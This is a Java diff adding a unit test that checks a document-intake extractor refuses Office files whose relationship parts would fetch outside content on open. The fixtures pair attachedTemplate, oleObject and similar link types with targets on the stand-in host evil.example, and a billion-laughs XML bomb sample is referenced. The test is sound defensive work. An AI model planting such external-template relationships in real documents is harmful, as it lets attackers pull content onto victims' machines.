@@ -8,6 +8,7 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.LinkedHashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import java.util.zip.ZipEntry;
@@ -114,6 +115,52 @@ class FileSignatureTest {
             TextExtraction.forMarking(
                 FileType.DOCX, packed(Map.of("word/document.xml", HostileFiles.billionLaughs()))))
         .isInstanceOf(Outcome.Refused.class);
+  }
+
+  @Test
+  void anOfficeFileThatWouldFetchSomethingWhenOpenedIsNotTaken() throws IOException {
+    String relation =
+        "<Relationships><Relationship Id='a' Type='http://x/%s' Target='%s' TargetMode='External'/></Relationships>";
+    for (String type :
+        List.of("attachedTemplate", "oleObject", "frame", "aFChunk", "subDocument")) {
+      for (String target :
+          List.of("https://evil.example/a.dotm", "\\\\evil.example\\a", "file://evil.example/a")) {
+        for (String part :
+            List.of("word/_rels/settings.xml.rels", "word/glossary/_rels/document.xml.rels")) {
+          assertThat(refusedAs(FileType.DOCX, part, relation.formatted(type, target)))
+              .as(type + " " + target)
+              .isEqualTo("intake.refused.outside");
+        }
+        assertThat(
+                refusedAs(
+                    FileType.XLSX,
+                    "xl/worksheets/_rels/sheet1.xml.rels",
+                    relation.formatted(type, target)))
+            .isEqualTo("intake.refused.outside");
+      }
+    }
+    for (String type : List.of("hyperlink", "image", "externalLinkPath")) {
+      assertThat(
+              refusedAs(
+                  FileType.DOCX,
+                  "word/_rels/document.xml.rels",
+                  relation.formatted(type, "https://example.org/")))
+          .isEmpty();
+    }
+  }
+
+  private static String refusedAs(FileType type, String part, String relations) throws IOException {
+    return switch (TextExtraction.forMarking(
+        type,
+        packed(
+            Map.of(
+                part,
+                relations,
+                "word/document.xml",
+                HostileFiles.OPEN + HostileFiles.paragraph("A") + HostileFiles.CLOSE)))) {
+      case Outcome.Done<String> done -> "";
+      case Outcome.Refused<String>(var refusals) -> refusals.getFirst().reason();
+    };
   }
 
   private static String text(FileType type, ByteArrayResource content) throws IOException {
